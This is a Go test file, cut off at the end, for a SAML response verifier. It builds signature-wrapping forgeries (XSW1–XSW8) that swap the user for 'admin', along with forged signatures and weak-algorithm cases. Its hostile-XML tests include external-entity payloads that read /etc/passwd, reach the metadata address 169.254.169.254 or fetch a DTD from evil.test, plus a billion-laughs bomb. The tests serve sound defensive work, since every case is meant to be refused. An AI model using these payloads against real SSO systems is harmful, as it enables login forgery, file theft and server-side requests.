package samlxml_test

import (
	"bytes"
	"crypto"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"fmt"
	"math/rand/v2"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/cardea-id/cardea/internal/sso/samlxml"
	"github.com/google/go-cmp/cmp"
	dsig "github.com/russellhaering/goxmldsig"
)

// forged is an element with another name in it and another ID, without a signature.
func forged(e *etree.Element) *etree.Element {
	evil := e.Copy()
	evil.CreateAttr("ID", "_evil")
	for _, name := range evil.FindElements(".//NameID") {
		name.SetText("admin")
	}
	for _, a := range evil.FindElements(".//Assertion") {
		a.CreateAttr("ID", "_evil_assertion")
	}
	for _, s := range evil.FindElements(".//Signature") {
		s.Parent().RemoveChild(s)
	}
	return evil
}

// The eight ways to wrap a signed element (Somorovsky and others, 2012), each on
// responses signed in the three ways: 24 documents, and the two of them that
// move a whole response are made of the assertion's signature where the response
// has none.
func TestWrapping(t *testing.T) {
	t.Parallel()
	object := func(content *etree.Element) *etree.Element {
		o := parse(`<ds:Object xmlns:ds="` + nsD + `"/>`)
		o.AddChild(content)
		return o
	}
	// outer returns the response with the signature that covers most, and the
	// element which that covers.
	outer := func(root *etree.Element, m mode) (covered, signature *etree.Element) {
		covered = root
		if m == byAssertion {
			covered = root.SelectElement("Assertion")
		}
		return covered, covered.SelectElement("Signature")
	}
	inner := func(root *etree.Element, m mode) (assertion, signature *etree.Element) {
		assertion = root.SelectElement("Assertion")
		if signature = assertion.SelectElement("Signature"); signature == nil {
			signature = root.SelectElement("Signature")
		}
		return assertion, signature
	}
	for name, wrap := range map[string]func(root *etree.Element, m mode) *etree.Element{
		// A forged response around the genuine one, inside its signature.
		"XSW1": func(root *etree.Element, m mode) *etree.Element {
			covered, signature := outer(root, m)
			evil := forged(covered)
			bare := covered.Copy()
			bare.RemoveChild(bare.SelectElement("Signature"))
			signature = signature.Copy()
			signature.AddChild(bare)
			evil.InsertChildAt(1, signature)
			return replace(root, covered, evil)
		},
		// The same, the genuine one beside the signature.
		"XSW2": func(root *etree.Element, m mode) *etree.Element {
			covered, signature := outer(root, m)
			evil := forged(covered)
			bare := covered.Copy()
			bare.RemoveChild(bare.SelectElement("Signature"))
			evil.InsertChildAt(1, bare)
			evil.InsertChildAt(2, signature.Copy())
			return replace(root, covered, evil)
		},
		// A forged assertion before the genuine one.
		"XSW3": func(root *etree.Element, m mode) *etree.Element {
			assertion, _ := inner(root, m)
			root.InsertChildAt(assertion.Index(), forged(assertion))
			return root
		},
		// The genuine assertion inside the forged one.
		"XSW4": func(root *etree.Element, m mode) *etree.Element {
			assertion, _ := inner(root, m)
			evil := forged(assertion)
			evil.AddChild(assertion.Copy())
			return replace(root, assertion, evil)
		},
		// The signature stays in the forged assertion, the genuine one stands at the end.
		"XSW5": func(root *etree.Element, m mode) *etree.Element {
			assertion, signature := inner(root, m)
			evil := forged(assertion)
			evil.InsertChildAt(1, signature.Copy())
			bare := assertion.Copy()
			if s := bare.SelectElement("Signature"); s != nil {
				bare.RemoveChild(s)
			}
			root = replace(root, assertion, evil)
			root.AddChild(bare)
			return root
		},
		// The genuine one inside the signature of the forged one.
		"XSW6": func(root *etree.Element, m mode) *etree.Element {
			assertion, signature := inner(root, m)
			evil := forged(assertion)
			bare := assertion.Copy()
			if s := bare.SelectElement("Signature"); s != nil {
				bare.RemoveChild(s)
			}
			signature = signature.Copy()
			signature.AddChild(bare)
			evil.InsertChildAt(1, signature)
			return replace(root, assertion, evil)
		},
		// A forged assertion in Extensions.
		"XSW7": func(root *etree.Element, m mode) *etree.Element {
			assertion, _ := inner(root, m)
			extensions := parse(`<samlp:Extensions xmlns:samlp="` + nsP + `"/>`)
			extensions.AddChild(forged(assertion))
			root.InsertChildAt(assertion.Index(), extensions)
			return root
		},
		// The genuine one in an Object of the signature of the forged one.
		"XSW8": func(root *etree.Element, m mode) *etree.Element {
			assertion, signature := inner(root, m)
			evil := forged(assertion)
			bare := assertion.Copy()
			if s := bare.SelectElement("Signature"); s != nil {
				bare.RemoveChild(s)
			}
			signature = signature.Copy()
			signature.AddChild(object(bare))
			evil.InsertChildAt(1, signature)
			return replace(root, assertion, evil)
		},
	} {
		for _, m := range modes {
			t.Run(name+" on "+string(m), func(t *testing.T) {
				t.Parallel()
				raw := write(wrap(signed(genuine(), m, signer{}), m))
				if !bytes.Contains(raw, []byte(">admin<")) || !bytes.Contains(raw, []byte(">alice<")) {
					t.Fatal("the document is not the attack")
				}
				want := samlxml.CauseTwoAssertions
				if m != byAssertion && (name == "XSW1" || name == "XSW2") {
					want = samlxml.CauseMalformed // a response in a response
				}
				if m != byAssertion && name == "XSW1" {
					want = samlxml.CauseTwoAssertions
				}
				refused(t, raw, expect(), want)
				// With the ID of the genuine one, for who looks it up by that.
				raw = bytes.ReplaceAll(bytes.ReplaceAll(raw, []byte("_evil_assertion"), []byte("_assertion")), []byte("_evil"), []byte("_response"))
				if _, _, err := samlxml.Verify(raw, expect()); err == nil {
					t.Error("accepted with the same IDs")
				}
			})
		}
	}
}

func replace(root, old, by *etree.Element) *etree.Element {
	if root == old {
		return by
	}
	at := old.Index()
	root.RemoveChild(old)
	root.InsertChildAt(at, by)
	return root
}

// More ways to have something else read than what was verified.
func TestWrappingRefuses(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		mode mode
		edit func(root *etree.Element)
		want samlxml.Cause
	}{
		"the only assertion inside Extensions": {byAssertion, func(root *etree.Element) {
			assertion := root.SelectElement("Assertion")
			root.RemoveChild(assertion)
			extensions := parse(`<samlp:Extensions xmlns:samlp="` + nsP + `"/>`)
			extensions.AddChild(assertion)
			root.InsertChildAt(2, extensions)
		}, samlxml.CauseWrapping},
		"the only assertion inside the status": {byAssertion, func(root *etree.Element) {
			assertion := root.SelectElement("Assertion")
			root.RemoveChild(assertion)
			root.SelectElement("Status").AddChild(assertion)
		}, samlxml.CauseWrapping},
		"an unsigned assertion last": {byAssertion, func(root *etree.Element) { root.AddChild(forged(root.SelectElement("Assertion"))) }, samlxml.CauseTwoAssertions},
		"an assertion of no namespace": {byAssertion, func(root *etree.Element) {
			root.SelectElement("Status").AddChild(parse(`<Assertion xmlns=""/>`))
		}, samlxml.CauseTwoAssertions},
		"a signature of another element": {byBoth, func(root *etree.Element) {
			root.RemoveChild(root.SelectElement("Signature"))
			s := root.SelectElement("Assertion").SelectElement("Signature")
			root.InsertChildAt(1, s.Copy())
			root.SelectElement("Assertion").RemoveChild(s)
		}, samlxml.CauseWrapping},
		"two signatures": {byAssertion, func(root *etree.Element) {
			a := root.SelectElement("Assertion")
			a.InsertChildAt(2, a.SelectElement("Signature").Copy())
		}, samlxml.CauseWrapping},
		"two signatures of the response": {byResponse, func(root *etree.Element) {
			root.InsertChildAt(2, root.SelectElement("Signature").Copy())
		}, samlxml.CauseMalformed},
		"a signature in the subject": {byBoth, func(root *etree.Element) {
			a := root.SelectElement("Assertion")
			s := a.SelectElement("Signature")
			a.RemoveChild(s)
			a.SelectElement("Subject").AddChild(s)
		}, samlxml.CauseWrapping},
		"a second ID, of the second of two": {byResponse, func(root *etree.Element) {
			root.SelectElement("Status").AddChild(parse(`<samlp:StatusDetail xmlns:samlp="` + nsP + `"><x ID="_response"/></samlp:StatusDetail>`))
		}, samlxml.CauseDuplicateID},
		"an Id in small letters": {byResponse, func(root *etree.Element) {
			root.SelectElement("Status").AddChild(parse(`<samlp:StatusDetail xmlns:samlp="` + nsP + `"><x id="_response"/></samlp:StatusDetail>`))
		}, samlxml.CauseDuplicateID},
		"an ID with a prefix": {byAssertion, func(root *etree.Element) {
			a := root.SelectElement("Assertion")
			a.Attr = append([]etree.Attr{{Space: "saml", Key: "ID", Value: "_evil"}}, a.Attr...)
		}, samlxml.CauseMalformed},
		"an Object in the signature": {byBoth, func(root *etree.Element) {
			root.SelectElement("Signature").AddChild(parse(`<ds:Object xmlns:ds="` + nsD + `"/>`))
		}, samlxml.CauseWrapping},
		"a signed response with the assertion altered": {byResponse, func(root *etree.Element) {
			root.FindElement("./Assertion/Subject/NameID").SetText("admin")
		}, samlxml.CauseSignature},
		"a signed assertion altered": {byAssertion, func(root *etree.Element) {
			root.FindElement("./Assertion/Subject/NameID").SetText("admin")
		}, samlxml.CauseSignature},
		"the audience altered":    {byAssertion, func(root *etree.Element) { root.FindElement(".//Audience").SetText(spID + "/x") }, samlxml.CauseSignature},
		"the destination altered": {byResponse, func(root *etree.Element) { root.CreateAttr("Destination", acs+"/x") }, samlxml.CauseSignature},
		"the response's signature removed": {byResponse, func(root *etree.Element) {
			root.RemoveChild(root.SelectElement("Signature"))
		}, samlxml.CauseUnsigned},
		"a namespace that says something else": {byAssertion, func(root *etree.Element) {
			root.SelectElement("Assertion").CreateAttr("xmlns:saml", "urn:evil")
		}, samlxml.CauseWrapping},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root := signed(genuine(), c.mode, signer{})
			c.edit(root)
			refused(t, write(root), expect(), c.want)
		})
	}
	t.Run("the assertion signed by another under a genuine response", func(t *testing.T) {
		root := signed(genuine(), byAssertion, signer{by: attacker()})
		refused(t, write(signed(root, byResponse, signer{})), expect(), samlxml.CauseCertificate)
	})
	t.Run("the assertion altered under a genuine response", func(t *testing.T) {
		root := signed(genuine(), byAssertion, signer{})
		root.FindElement("./Assertion/Subject/NameID").SetText("admin")
		refused(t, write(signed(root, byResponse, signer{})), expect(), samlxml.CauseSignature)
	})
	t.Run("the response signed by another around a genuine assertion", func(t *testing.T) {
		root := signed(genuine(), byAssertion, signer{})
		refused(t, write(signed(root, byResponse, signer{by: attacker()})), expect(), samlxml.CauseCertificate)
	})
}

// Signatures as nobody should make them, or as an attacker makes them.
func TestSignatureRefuses(t *testing.T) {
	t.Parallel()
	info := func(edit func(info *etree.Element)) signer { return signer{editInfo: edit} }
	after := func(edit func(signature *etree.Element)) signer { return signer{edit: edit} }
	reference := "./Reference"
	for name, c := range map[string]struct {
		signer signer
		want   samlxml.Cause
	}{
		"another certificate, embedded":     {signer{by: attacker()}, samlxml.CauseCertificate},
		"another certificate, not embedded": {signer{by: attacker(), keyInfo: "none"}, samlxml.CauseCertificate},
		"another key with our certificate":  {signer{by: attacker(), keyInfo: b64(idp().cert.Raw)}, samlxml.CauseSignature},
		"our key with another certificate":  {signer{keyInfo: b64(attacker().cert.Raw)}, samlxml.CauseCertificate},
		"a certificate that is none":        {signer{keyInfo: "bm9uZQ=="}, samlxml.CauseCertificate},
		"a certificate that is no Base64":   {signer{keyInfo: "-"}, samlxml.CauseCertificate},
		"RSA-SHA1":                          {signer{method: dsig.RSASHA1SignatureMethod}, samlxml.CauseAlgorithm},
		"RSA-MD5":                           {signer{method: "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"}, samlxml.CauseAlgorithm},
		"HMAC with the certificate": {signer{method: "http://www.w3.org/2000/09/xmldsig#hmac-sha256", value: func(signed []byte) []byte {
			mac := hmac.New(sha256.New, idp().cert.Raw)
			mac.Write(signed)
			return mac.Sum(nil)
		}}, samlxml.CauseAlgorithm},
		"an unknown method":              {signer{method: "urn:none"}, samlxml.CauseAlgorithm},
		"ECDSA named with an RSA key":    {signer{method: dsig.ECDSASHA256SignatureMethod}, samlxml.CauseCertificate},
		"a digest of SHA-1":              {signer{digest: nsD + "sha1"}, samlxml.CauseAlgorithm},
		"a digest of MD5":                {signer{digest: "http://www.w3.org/2001/04/xmldsig-more#md5"}, samlxml.CauseAlgorithm},
		"XSLT":                           {signer{transforms: []string{nsD + "enveloped-signature", "http://www.w3.org/TR/1999/REC-xslt-19991116"}}, samlxml.CauseAlgorithm},
		"XPath":                          {signer{transforms: []string{"http://www.w3.org/TR/1999/REC-xpath-19991116", c14n}}, samlxml.CauseAlgorithm},
		"three transforms":               {signer{transforms: []string{nsD + "enveloped-signature", c14n, c14n}}, samlxml.CauseAlgorithm},
		"no transform":                   {signer{transforms: []string{}}, samlxml.CauseAlgorithm},
		"canonicalization only":          {signer{transforms: []string{c14n}}, samlxml.CauseAlgorithm},
		"inclusive canonicalization":     {signer{transforms: []string{nsD + "enveloped-signature", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"}}, samlxml.CauseAlgorithm},
		"canonicalization with comments": {signer{canonical: c14n + "WithComments"}, samlxml.CauseAlgorithm},
		"an unknown canonicalization":    {signer{canonical: "urn:none"}, samlxml.CauseAlgorithm},
		"an empty reference":             {signer{uri: " "}, samlxml.CauseWrapping},
		"a reference to another":         {signer{uri: "#_other"}, samlxml.CauseWrapping},
		"a reference elsewhere":          {signer{uri: "https://evil.test/a.xml"}, samlxml.CauseWrapping},
		"a reference by XPointer":        {signer{uri: "#xpointer(/)"}, samlxml.CauseWrapping},
		"a reference to nothing":         {info(func(i *etree.Element) { i.FindElement(reference).RemoveAttr("URI") }), samlxml.CauseWrapping},
		"a reference to all":             {info(func(i *etree.Element) { i.FindElement(reference).CreateAttr("URI", "") }), samlxml.CauseWrapping},
		"two references":                 {info(func(i *etree.Element) { i.AddChild(i.FindElement(reference).Copy()) }), samlxml.CauseWrapping},
		"no reference":                   {info(func(i *etree.Element) { i.RemoveChild(i.FindElement(reference)) }), samlxml.CauseWrapping},
		"no digest":                      {info(func(i *etree.Element) { r := i.FindElement(reference); r.RemoveChild(r.SelectElement("DigestValue")) }), samlxml.CauseWrapping},
		"a digest of nothing":            {info(func(i *etree.Element) { i.FindElement(".//DigestValue").SetText("") }), samlxml.CauseSignature},
		"two digests": {info(func(i *etree.Element) {
			r := i.FindElement(reference)
			r.AddChild(r.SelectElement("DigestValue").Copy())
		}), samlxml.CauseWrapping},
		"SignedInfo twice": {after(func(s *etree.Element) { s.InsertChildAt(0, s.SelectElement("SignedInfo").Copy()) }), samlxml.CauseWrapping},
		"a forged SignedInfo first": {after(func(s *etree.Element) {
			evil := s.SelectElement("SignedInfo").Copy()
			evil.FindElement(".//DigestValue").SetText("AAAA")
			s.InsertChildAt(0, evil)
		}), samlxml.CauseWrapping},
		"SignedInfo in another namespace beside": {after(func(s *etree.Element) { s.AddChild(parse(`<SignedInfo xmlns="urn:x"/>`)) }), samlxml.CauseWrapping},
		"no SignedInfo":                          {after(func(s *etree.Element) { s.RemoveChild(s.SelectElement("SignedInfo")) }), samlxml.CauseWrapping},
		"no value":                               {after(func(s *etree.Element) { s.RemoveChild(s.SelectElement("SignatureValue")) }), samlxml.CauseWrapping},
		"two values":                             {after(func(s *etree.Element) { s.InsertChildAt(1, s.SelectElement("SignatureValue").Copy()) }), samlxml.CauseWrapping},
		"an empty value":                         {after(func(s *etree.Element) { s.SelectElement("SignatureValue").SetText("") }), samlxml.CauseSignature},
		"a value that is no Base64":              {after(func(s *etree.Element) { s.SelectElement("SignatureValue").SetText("?") }), samlxml.CauseSignature},
		"a short value":                          {after(func(s *etree.Element) { s.SelectElement("SignatureValue").SetText("AAAA") }), samlxml.CauseSignature},
		"two KeyInfo":                            {after(func(s *etree.Element) { s.AddChild(s.SelectElement("KeyInfo").Copy()) }), samlxml.CauseWrapping},
		"the digest altered": {after(func(s *etree.Element) {
			s.FindElement(".//DigestValue").SetText(b64(sum(crypto.SHA256, []byte("evil"))))
		}), samlxml.CauseSignature},
		"the method altered": {after(func(s *etree.Element) {
			s.FindElement(".//SignatureMethod").CreateAttr("Algorithm", dsig.RSASHA512SignatureMethod)
		}), samlxml.CauseSignature},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, m := range []mode{byResponse, byAssertion} {
				refused(t, write(signed(genuine(), m, c.signer)), expect(), c.want)
			}
		})
	}
	t.Run("ECDSA in the form of ASN.1", func(t *testing.T) {
		s := signer{by: idpEC(), method: dsig.ECDSASHA256SignatureMethod, value: func(signed []byte) []byte {
			value, err := idpEC().key.Sign(nil, sum(crypto.SHA256, signed), crypto.SHA256)
			if err != nil {
				t.Fatal(err)
			}
			return value
		}}
		e := expect()
		e.IdP.Certificates = []*x509.Certificate{idpEC().cert}
		refused(t, write(signed(genuine(), byBoth, s)), e, samlxml.CauseSignature)
	})
	t.Run("ECDSA of zeros", func(t *testing.T) {
		s := signer{by: idpEC(), method: dsig.ECDSASHA256SignatureMethod, value: func([]byte) []byte { return make([]byte, 64) }}
		e := expect()
		e.IdP.Certificates = []*x509.Certificate{idpEC().cert}
		refused(t, write(signed(genuine(), byBoth, s)), e, samlxml.CauseSignature)
	})
}

// What is not plain XML is refused before anything of it is used.
func TestHostileXML(t *testing.T) {
	t.Parallel()
	raw := string(write(signed(genuine(), byAssertion, signer{})))
	edit := func(old, by string) string {
		if !strings.Contains(raw, old) {
			t.Fatalf("no %q in the response", old)
		}
		return strings.Replace(raw, old, by, 1)
	}
	laughs := `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	for name, c := range map[string]struct {
		raw  string
		want samlxml.Cause
	}{
		"nothing":                           {"", samlxml.CauseMalformed},
		"text":                              {"alice", samlxml.CauseMalformed},
		"half of it":                        {raw[:len(raw)/2], samlxml.CauseMalformed},
		"twice":                             {raw + raw, samlxml.CauseMalformed},
		"text behind it":                    {raw + "x", samlxml.CauseMalformed},
		"Base64":                            {b64([]byte(raw)), samlxml.CauseMalformed},
		"another root":                      {"<x/>", samlxml.CauseMalformed},
		"an assertion as root":              {string(write(signed(genuine(), byAssertion, signer{}).SelectElement("Assertion"))), samlxml.CauseMalformed},
		"DOCTYPE":                           {"<!DOCTYPE Response>" + raw, samlxml.CauseDoctype},
		"doctype in small letters":          {"<!doctype Response>" + raw, samlxml.CauseDoctype},
		"external schema":                   {`<!DOCTYPE r SYSTEM "file:///etc/passwd">` + raw, samlxml.CauseDoctype},
		"public external schema":            {`<!DOCTYPE r PUBLIC "x" "http://169.254.169.254/">` + raw, samlxml.CauseDoctype},
		"external entity":                   {`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + edit(">alice<", ">&x;<"), samlxml.CauseDoctype},
		"parameter entity":                  {`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>` + raw, samlxml.CauseDoctype},
		"billion laughs":                    {laughs + edit(">alice<", ">&c;<"), samlxml.CauseDoctype},
		"DOCTYPE behind":                    {raw + "<!DOCTYPE x>", samlxml.CauseDoctype},
		"DOCTYPE inside":                    {edit(">alice<", "><!DOCTYPE x>alice<"), samlxml.CauseDoctype},
		"an attribute list":                 {edit(">alice<", `><!ATTLIST x ID ID "y">alice<`), samlxml.CauseDoctype},
		"an entity that is unknown":         {edit(">alice<", ">&alice;<"), samlxml.CauseMalformed},
		"a comment before":                  {"<!-- x -->" + raw, samlxml.CauseMalformed},
		"a comment behind":                  {raw + "<!-- x -->", samlxml.CauseMalformed},
		"a comment in the name":             {edit(">alice<", ">al<!-- -->ice<"), samlxml.CauseMalformed},
		"a comment and more":                {edit(">alice<", ">alice<!-- -->.evil.test<"), samlxml.CauseMalformed},
		"a comment in an attribute's value": {edit(">alice@acme.test<", ">alice@acme.test<!---->.evil<"), samlxml.CauseMalformed},
		"a comment in the digest":           {edit("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"), samlxml.CauseMalformed},
		"a comment in the issuer":           {edit(">"+idpID+"<", ">"+idpID+"<!-- --><"), samlxml.CauseMalformed},
		"a processing instruction":          {edit(">alice<", "><?x y?>alice<"), samlxml.CauseMalformed},
		"a style sheet":                     {`<?xml-stylesheet href="x"?>` + raw, samlxml.CauseMalformed},
		"a second declaration":              {edit(">alice<", `><?xml version="1.0"?>alice<`), samlxml.CauseMalformed},
		"]]> in text":                       {edit(">alice<", ">alice]]><"), samlxml.CauseMalformed},
		"CDATA that ends twice":             {edit(">alice<", "><![CDATA[alice]]>]]><"), samlxml.CauseMalformed},
		"another encoding":                  {`<?xml version="1.0" encoding="ISO-8859-1"?>` + raw, samlxml.CauseMalformed},
		"UTF-7":                             {`<?xml version="1.0" encoding="UTF-7"?>` + raw, samlxml.CauseMalformed},
		"UTF-16":                            {"\xff\xfe<\x00x\x00", samlxml.CauseMalformed},
		"bytes that are no text":            {edit(">alice<", ">\xff\xfe<"), samlxml.CauseMalformed},
		"a null byte":                       {edit(">alice<", ">al\x00ice<"), samlxml.CauseMalformed},
		"a null reference":                  {edit(">alice<", ">al&#0;ice<"), samlxml.CauseMalformed},
		"XML 1.1":                           {`<?xml version="1.1"?>` + raw, samlxml.CauseMalformed},
		"an empty prefix":                   {edit("<saml:Subject>", "<:Subject>"), samlxml.CauseMalformed},
		"an empty name":                     {edit("<saml:Subject>", "<x:/><saml:Subject>"), samlxml.CauseMalformed},
		"two colons":                        {edit("<saml:Subject>", "<a:b:c/><saml:Subject>"), samlxml.CauseMalformed},
		"an attribute of a colon":           {edit("<saml:Subject>", `<saml:Subject :x="y">`), samlxml.CauseMalformed},
		"an attribute ending so":            {edit("<saml:Subject>", `<saml:Subject x:="y">`), samlxml.CauseMalformed},
		"an attribute twice":                {edit(`ID="_assertion"`, `ID="_evil" ID="_assertion"`), samlxml.CauseMalformed},
		"a namespace twice":                 {edit(`ID="_assertion"`, `xmlns:saml="urn:x" ID="_assertion"`), samlxml.CauseMalformed},
		"a prefix that is not declared":     {edit("<saml:Subject>", "<y:x/><saml:Subject>"), samlxml.CauseMalformed},
		"xmlns as a prefix":                 {edit("<saml:Subject>", `<saml:Subject xmlns:xmlns="urn:x">`), samlxml.CauseSignature},
		"xml as something else":             {edit("<saml:Subject>", `<saml:Subject xmlns:xml="urn:x">`), samlxml.CauseSignature},
		"tags that cross":                   {"<a><b></a></b>", samlxml.CauseMalformed},
		"an end alone":                      {"</a>", samlxml.CauseMalformed},
		"an attribute without quotes":       {edit(`ID="_assertion"`, `ID=_assertion`), samlxml.CauseMalformed},
		"< in an attribute":                 {edit(`ID="_assertion"`, `ID="_assertion" x="<"`), samlxml.CauseMalformed},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			refused(t, []byte(c.raw), expect(), c.want)
		})
	}
}

// Whatever is altered, inserted or taken away: either it is refused, or what is
// read is what was signed.
func TestAlteredBytesChangeNothing(t *testing.T) {
	t.Parallel()
	pieces := []string{"", "<", ">", "&", "\"", " ", "A", "<!-- -->", "<x/>", "]]>", "saml:", "\r", "&#13;", "=", "xmlns=\"\" "}
	for _, m := range modes {
		t.Run(string(m), func(t *testing.T) {
			t.Parallel()
			raw := write(signed(genuine(), m, signer{}))
			random := rand.New(rand.NewPCG(1, 2))
			for range 700 {
				at := random.IntN(len(raw))
				until := min(len(raw), at+random.IntN(3))
				altered := bytes.Join([][]byte{raw[:at], []byte(pieces[random.IntN(len(pieces))]), raw[until:]}, nil)
				got, _, err := samlxml.Verify(altered, expect())
				if err == nil && !cmp.Equal(got, alice()) {
					t.Fatalf("accepted, with other content: %s\n%s", cmp.Diff(alice(), got), altered)
				}
			}
		})
	}
}

func TestEncryptedAssertionIsAccepted(t *testing.T) {
	t.Parallel()
	for name, s := range map[string]sealing{
		"AES-256-GCM":               {},
		"AES-128-GCM":               {content: nsE11 + "aes128-gcm"},
		"AES-192-GCM":               {content: nsE11 + "aes192-gcm"},
		"a digest of SHA-1":         {digest: nsD + "sha1"},
		"a digest of SHA-256":       {digest: nsE + "sha256"},
		"a digest of SHA-512":       {digest: nsE + "sha512"},
		"OAEP of 2009":              {transport: nsE11 + "rsa-oaep", digest: nsE + "sha256", mask: nsE11 + "mgf1sha256"},
		"OAEP of 2009, mask unsaid": {transport: nsE11 + "rsa-oaep", digest: nsE + "sha256"},
		"for the next key":          {to: oursNext().key.Public().(*rsa.PublicKey)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e := expect()
			e.RequireEncrypted = true
			for _, inner := range []mode{byAssertion, byNobody} {
				// Signed inside, around it, or both.
				root := encrypted(signed(genuine(), inner, signer{}), s)
				if inner == byAssertion {
					accepted(t, write(root), e, alice())
				}
				accepted(t, write(signed(root, byResponse, signer{})), e, alice())
			}
		})
	}
	for _, bits := range []string{"128", "192", "256"} {
		t.Run("AES-"+bits+"-CBC under a signature", func(t *testing.T) {
			t.Parallel()
			// A wrong key opens CBC now and then: what comes of that is not read.
			for range 20 {
				s := sealing{content: nsE + "aes" + bits + "-cbc", to: oursNext().key.Public().(*rsa.PublicKey)}
				root := encrypted(signed(genuine(), byAssertion, signer{}), s)
				accepted(t, write(signed(root, byResponse, signer{})), expect(), alice())
			}
		})
	}
	t.Run("the key beside the data", func(t *testing.T) {
		t.Parallel()
		root := encrypted(signed(genuine(), byAssertion, signer{}), sealing{})
		key := root.FindElement(".//EncryptedKey")
		key.Parent().RemoveChild(key)
		root.SelectElement("EncryptedAssertion").AddChild(key)
		accepted(t, write(root), expect(), alice())
	})
	t.Run("a key for somebody else beside ours", func(t *testing.T) {
		t.Parallel()
		root := encrypted(signed(genuine(), byAssertion, signer{}), sealing{})
		other := encrypted(genuine(), sealing{to: attacker().key.Public().(*rsa.PublicKey)})
		root.FindElement(".//KeyInfo").InsertChildAt(0, other.FindElement(".//EncryptedKey"))
		accepted(t, write(root), expect(), alice())
	})
}

// Our public key is public: that something could be decrypted proves nothing.
func TestEncryptedAssertionIsRefused(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		inner, outer mode
		sealing      sealing
		edit         func(root *etree.Element)
		want         samlxml.Cause
	}{
		"unsigned inside":                {byNobody, byNobody, sealing{}, nil, samlxml.CauseUnsigned},
		"CBC without an outer signature": {byAssertion, byNobody, sealing{content: nsE + "aes256-cbc"}, nil, samlxml.CauseAlgorithm},
		"CBC, unsigned inside":           {byNobody, byNobody, sealing{content: nsE + "aes128-cbc"}, nil, samlxml.CauseAlgorithm},
		"3DES under a signature":         {byAssertion, byResponse, sealing{content: nsE + "tripledes-cbc"}, nil, samlxml.CauseAlgorithm},
		"RSA 1.5":                        {byAssertion, byResponse, sealing{transport: nsE + "rsa-1_5"}, nil, samlxml.CauseAlgorithm},
		"an unknown digest":              {byAssertion, byNobody, sealing{digest: "urn:none"}, nil, samlxml.CauseEncryptedKey},
		"for another service":            {byAssertion, byNobody, sealing{to: attacker().key.Public().(*rsa.PublicKey)}, nil, samlxml.CauseEncryptedKey},
		"for another service, CBC":       {byAssertion, byResponse, sealing{to: attacker().key.Public().(*rsa.PublicKey), content: nsE + "aes256-cbc"}, nil, samlxml.CauseEncryptedKey},
		"a key of another length":        {byAssertion, byNobody, sealing{key: make([]byte, 16)}, nil, samlxml.CauseEncryptedKey},
		"an empty key": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			root.FindElement(".//EncryptedKey/CipherData/CipherValue").SetText("")
		}, samlxml.CauseEncryptedKey},
		"a huge key": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			root.FindElement(".//EncryptedKey/CipherData/CipherValue").SetText(strings.Repeat("A", 400_000))
		}, samlxml.CauseEncryptedKey},
		"no key": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			info := root.FindElement(".//KeyInfo")
			info.Parent().RemoveChild(info)
		}, samlxml.CauseEncryptedKey},
		"five keys": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			info := root.FindElement(".//KeyInfo")
			for range 4 {
				info.AddChild(info.SelectElement("EncryptedKey").Copy())
			}
		}, samlxml.CauseEncryptedKey},
		"no content": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			root.FindElement(".//EncryptedData/CipherData/CipherValue").SetText("")
		}, samlxml.CauseEncryptedKey},
		"no data": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			root.SelectElement("EncryptedAssertion").Child = nil
		}, samlxml.CauseMalformed},
		"half a block of CBC": {byAssertion, byNobody, sealing{content: nsE + "aes256-cbc"}, func(root *etree.Element) {
			root.FindElement(".//EncryptedData/CipherData/CipherValue").SetText(b64(make([]byte, 40)))
			signer{by: idp()}.sign(root)
		}, samlxml.CauseEncryptedKey},
		"altered": {byAssertion, byNobody, sealing{}, func(root *etree.Element) {
			value := root.FindElement(".//EncryptedData/CipherData/CipherValue")
			value.SetText("AAAA" + value.Text()[4:])
		}, samlxml.CauseEncryptedKey},
		"CBC altered under the signature": {byAssertion, byResponse, sealing{content: nsE + "aes256-cbc"}, func(root *etree.Element) {
			value := root.FindElement(".//EncryptedData/CipherData/CipherValue")
			value.SetText("AAAA" + value.Text()[4:])
		}, samlxml.CauseSignature},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root := signed(encrypted(signed(genuine(), c.inner, signer{}), c.sealing), c.outer, signer{})
			if c.edit != nil {
				c.edit(root)
			}
			refused(t, write(root), expect(), c.want)
		})
	}
	inside := map[string]struct {
		plain func(assertion *etree.Element) string
		want  samlxml.Cause
	}{
		"a DOCTYPE inside": {func(a *etree.Element) string { return "<!DOCTYPE a>" + string(write(a)) }, samlxml.CauseDoctype},
		"a comment inside": {func(a *etree.Element) string {
			return strings.Replace(string(write(a)), ">alice<", ">alice<!-- --><", 1)
		}, samlxml.CauseMalformed},
		"altered inside":    {func(a *etree.Element) string { return strings.Replace(string(write(a)), ">alice<", ">admin<", 1) }, samlxml.CauseSignature},
		"two inside":        {func(a *etree.Element) string { return string(write(a)) + string(write(forged(a))) }, samlxml.CauseMalformed},
		"one in another":    {func(a *etree.Element) string { evil := forged(a); evil.AddChild(a); return string(write(evil)) }, samlxml.CauseTwoAssertions},
		"something else":    {func(*etree.Element) string { return "<x/>" }, samlxml.CauseMalformed},
		"nothing":           {func(*etree.Element) string { return "" }, samlxml.CauseMalformed},
		"another encrypted": {func(a *etree.Element) string { return string(write(sealing{}.seal(write(a)))) }, samlxml.CauseMalformed},
		"expired inside": {func(a *etree.Element) string {
